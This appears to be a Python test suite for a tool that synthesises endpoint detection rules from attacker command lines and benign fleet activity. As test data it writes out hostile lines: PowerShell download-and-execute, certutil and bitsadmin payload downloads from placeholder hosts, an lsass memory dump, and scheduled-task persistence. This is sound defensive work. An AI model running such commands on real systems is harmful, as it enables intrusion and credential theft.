"""From deeds and lawful use to rules: general where lawful use allows it, precise always, else silent."""

from deeds_kit import ATTACK, S32, deed, fires, made, names, quiet, start, table

from longtail.detections.legitimate import fleet
from longtail.detections.proof import lawful, proof
from longtail.detections.rules import rule_id
from longtail.detections.synthesis import MOST_EXPECTED


def test_the_articles_rule() -> None:
    """Lawful transfers go to other places; the rule needs neither job, address nor file, and not the account."""
    lawful_use = [start(host, f"bitsadmin /transfer j /download http://wsus/{host}.zip d:\\jobs\\{host}.zip",
                        tenant=f"t{host}") for host in range(6)]  # fmt: skip
    (found,), reasons, _ = made([deed(ATTACK)], [*quiet(), *lawful_use])
    assert not reasons
    assert {"program", "bits_transfer", "remote"} <= set(names(found))
    assert not found.logic.account_rule
    text = str(rule_id(found.logic)) + str(found.logic)
    assert not any(word in text.lower() for word in ("svn", "198.51", "mssql", "sqlservr", " n "))
    assert fires(found, "BITSADMIN -Transfer update HTTPS://cdn.example.net/x1.exe C:\\Users\\Public\\Music\\x1.exe")
    assert not any(fires(found, row["command_line"]) for row in lawful_use)


def test_no_rule_is_met_by_lawful_use() -> None:
    """Lawful use that looks exactly like it: then there is no rule, and the numbers say why."""
    same = [
        start(host, ATTACK.replace("Svn", f"Setup{host}").replace("http://198", "http://203")) for host in range(40)
    ]
    found, reasons, _ = made([deed(ATTACK)], [*quiet(), *same])
    assert not found
    assert "lawful use does the same: 40 of " in reasons[0]


def test_more_lawful_use_makes_a_narrower_rule() -> None:
    wide, _, _ = made([deed(ATTACK)], quiet())
    to_public = [start(host, f"bitsadmin /transfer j http://wsus/{host}.zip c:\\Users\\Public\\{host}.zip")
                 for host in range(60)]  # fmt: skip
    narrow, _, of_fleet = made([deed(ATTACK)], [*quiet(), *to_public])
    assert wide[0].logic.kept > narrow[0].logic.kept
    assert all(each.logic.expected <= MOST_EXPECTED for each in (*wide, *narrow))
    assert proof(narrow[0], lawful(of_fleet)).whole.host_days == 0


def test_a_rule_demands_what_else_its_deeds_share() -> None:
    """Lawful transfers go to writable places too: a program as their target is what sets the deeds apart. In fleets of
    other habits such transfers go elsewhere, so the place is demanded all the same."""
    lawful_use = [start(host, f"bitsadmin /transfer j http://wsus/{host}.zip c:\\ProgramData\\{host}.zip",
                        tenant=f"t{host}") for host in range(6)]  # fmt: skip
    (found,), _, _ = made([deed(ATTACK)], [*quiet(), *lawful_use])
    assert {"remote", "names_program", "writable"} <= set(names(found))
    assert fires(found, "bitsadmin -transfer u https://cdn.example.net/x1.exe C:\\Windows\\Temp\\x1.exe")


def test_a_public_address_is_not_told_like_one_of_the_network() -> None:
    """Where an attacker fetched from the internet, fetching from a server of one's own network is another thing."""
    line, image = "curl.exe -s -o c:\\Users\\Public\\a.exe http://{}/a.exe", S32 + "curl.exe"
    lawful_use = [start(host, f"curl.exe -s -o d:\\a{host}.zip https://wsus/a", image, tenant=f"t{host}")
                  for host in range(30)]  # fmt: skip
    found, _, _ = made([deed(line.format("203.0.113.9"), image)], [*quiet(), *lawful_use])
    here, _, _ = made([deed(line.format("10.3.1.9"), image)], [*quiet(), *lawful_use])
    assert found and here
    elsewhere = line.format("172.32.0.9"), line.format("172.31.0.9")
    assert [[fires(rule, each, image) for each in elsewhere] for rule in (*found, *here)] == [
        [True, False],
        [True, True],
    ]


def test_nothing_telling_is_refused_however_rare() -> None:
    found, reasons, _ = made([deed("whoami /groups", S32 + "whoami.exe")], quiet())
    assert not found
    assert "sets it apart" in reasons[0]


def test_a_dropped_programs_name_is_no_rule() -> None:
    found, reasons, _ = made([deed("Svn.exe", "C:\\Users\\Public\\Svn.exe")], quiet())
    assert not found
    assert "the attacker's choice" in reasons[0]


def test_a_system_programs_name_elsewhere_is_one() -> None:
    (found,), _, _ = made([deed("svchost.exe -k netsvcs", "C:\\Windows\\System33\\svchost.exe")], quiet())
    assert fires(found, "x", "D:\\a\\svchost.exe")
    assert not fires(found, "x", S32 + "svchost.exe")


def test_a_renamed_program_is_not_the_program() -> None:
    line = "x.exe -urlcache -f http://198.51.100.7/a c:\\Users\\Public\\a.exe"
    (found,), _, _ = made([deed(line, "C:\\Users\\Public\\x.exe")], quiet())
    assert fires(found, line.replace("x.exe", "other.exe"), "D:\\other.exe")
    assert not fires(found, line, S32 + "certutil.exe")
    assert not fires(found, "cmd /c d.exe " + line, S32 + "cmd.exe"), "d.exe starts as a process of its own"
    assert not fires(found, 'forfiles /c "certutil -urlcache -f http://a/b c"', S32 + "forfiles.exe")


DUMP = "C:\\Users\\Public\\p.exe"


def test_what_a_rule_demands_already_is_no_alternative() -> None:
    """``lsass`` and either ``lsass`` or ``-accepteula`` would be ``lsass`` alone, said twice to look precise."""
    line = "p.exe -ma lsass.exe a.dmp"
    small = quiet(hosts=200, tenants=4)
    found, reasons, _ = made([deed(line, DUMP)], small)
    assert not found and "too little lawful use" in reasons[0]
    (found,), _, _ = made([deed(f"{line} -accepteula", DUMP)], small)
    assert names(found)[-1] == "quiet_licence"


def test_a_dump_is_what_a_rule_on_dumps_demands() -> None:
    (found,), _, _ = made([deed("p.exe -accepteula -ma lsass.exe a.dmp", DUMP)], quiet())
    assert fires(found, "other.exe lsass.exe out.dmp", "D:\\other.exe")
    assert not any("lsass" in each.name for each in found.logic.predicates)
    assert not fires(found, 'tasklist /FI "IMAGENAME eq lsass.exe"', S32 + "tasklist.exe")
    assert not fires(found, "findstr lsass a.txt", S32 + "findstr.exe")


def test_what_one_part_demands_no_other_part_repeats() -> None:
    """An option of the program that is a meaning too, in a fleet where it counts as precise only if counted twice."""
    tool = S32 + "sdelete.exe"
    lawful_use = [start(host, f"sdelete.exe -w d{host} job{host}", tool, tenant=f"t{host % 8}") for host in range(30)]
    deeds = [deed(f"sdelete.exe -accepteula x{tenant}", tool, tenant=tenant) for tenant in ("v", "w")]
    found, _, _ = made(deeds, [*quiet(1000), *lawful_use])
    assert not any({"option_accepteula", "quiet_licence"} <= set(names(each)) for each in found)


TASK = 'schtasks /create /tn a /tr "{}" /sc daily'


def test_an_alternative_covers_a_deed_of_its_own() -> None:
    """What the intruder called his file is not one way of several."""
    plain, named = (TASK.format(f"C:\\Windows\\Temp\\{name}.exe") for name in ("x", "sysmon"))
    for line in (plain, named):
        (found,), _, _ = made([deed(line, S32 + "schtasks.exe")], quiet())
        assert not any("_or_" in name for name in names(found))
        assert fires(found, plain, S32 + "schtasks.exe")


def test_two_ways_of_which_each_was_gone_are_one_rule() -> None:
    lines = (TASK.format("C:\\Windows\\Temp\\x.dat"), TASK.format("cmd.exe /c d"))
    (found,), _, _ = made([deed(line, S32 + "schtasks.exe") for line in lines], quiet())
    assert any("_or_" in name for name in names(found))
    assert all(fires(found, line, S32 + "schtasks.exe") for line in lines)


def test_powershell_by_its_lawful_names_is_no_other_program() -> None:
    line = "a.exe -nop -c iex(irm http://198.51.100.7/a)"
    (found,), _, _ = made([deed(line, "C:\\Users\\Public\\a.exe")], quiet())
    assert fires(found, line, "D:\\other.exe")
    for name in ("sqlps", "SQLToolsPS", "powershell_ise"):
        assert not fires(found, line.replace("a.exe", name, 1), f"C:\\Tools\\Binn\\{name}.exe")


def test_ways_apart_become_rules_apart() -> None:
    deeds = [deed(ATTACK), deed("bitsadmin /setnotifycmdline j c:\\a.exe NUL")]
    found, _, _ = made(deeds, quiet())
    assert sorted(len(each.deeds) for each in found) == [1, 1]


def test_days_of_an_attack_are_neither_lawful_not_counted() -> None:
    attacked_host = [start(0, "x", tenant="v", host="ATTACKED"), start(0, ATTACK, tenant="v", host="attacked")]
    of_fleet = fleet(table(*quiet(), *attacked_host), [deed(ATTACK)])
    assert of_fleet.host_days == 400 * 3
    assert of_fleet.use(("bitsadmin.exe",)).faces.is_empty()


def test_a_service_as_parent_is_the_last_resort_and_makes_an_account_rule() -> None:
    line = '"C:\\Windows\\system32\\cmd.exe" /c copy \\\\198.51.100.7\\a\\b.exe C:\\Users\\Public\\b.exe'
    sql = "C:\\MSSQL\\Binn\\sqlservr.exe"
    same = [start(host, line.replace("b.exe", f"s{host}.exe"), S32 + "cmd.exe", tenant=f"t{host % 8}")
            for host in range(30)]  # fmt: skip
    found, _, of_fleet = made([deed(line, S32 + "cmd.exe", parent_image=sql)], [*quiet(), *same])
    assert [each.logic.account_rule for each in found] == [True]
    assert proof(found[0], lawful(of_fleet)).account_rule
